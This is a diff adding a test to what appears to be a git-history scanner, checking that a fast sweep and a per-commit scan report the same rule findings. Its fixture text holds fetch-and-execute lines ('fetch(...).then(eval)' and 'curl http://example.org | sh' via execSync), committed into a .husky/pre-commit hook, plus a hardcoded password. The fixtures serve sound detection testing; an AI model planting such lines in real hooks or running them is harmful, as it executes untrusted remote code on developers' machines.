@@ -159,6 +159,21 @@ def test_a_sweep_finds_what_a_scan_of_each_commit_finds(repo: Repo, engine: Engi
     assert {(one.commit, one.rule, one.path, one.line) for one in fast.findings} <= places
 
 
+def test_what_is_copied_to_where_a_rule_holds_is_found(repo: Repo, engine: Engine) -> None:
+    text = (
+        "fetch('https://example.org/x').then(eval)\n"
+        + "require('child_process').execSync('curl http://example.org | sh')\n"
+    )
+    repo.commit("here", {"docs/notes.txt": text, "a.txt": BAD})
+    repo.commit("and there", {".husky/pre-commit": text, "docs/b.txt": "password = 'x'\n"})
+    git = Git(repo.path, {})
+    slow = scan_commits(Scanner(git, engine.without_structure()), new_commits(git, surface.tips(git), []))
+    fast = scan_history(Scanner(git, engine), jobs=1, moved=lambda done, total: None)
+    wanted = {(one.rule, one.path) for one in slow.findings if not one.approval}
+    assert {(one.rule, one.path) for one in fast.findings} == wanted
+    assert any(path == ".husky/pre-commit" for _, path in wanted)
+
+
 def test_several_processes_find_the_same(repo: Repo, engine: Engine) -> None:
     for n in range(3):
         repo.commit(f"many {n}", {f"d{n}/f{m}.txt": f"file {n} {m}\n" for m in range(900)})
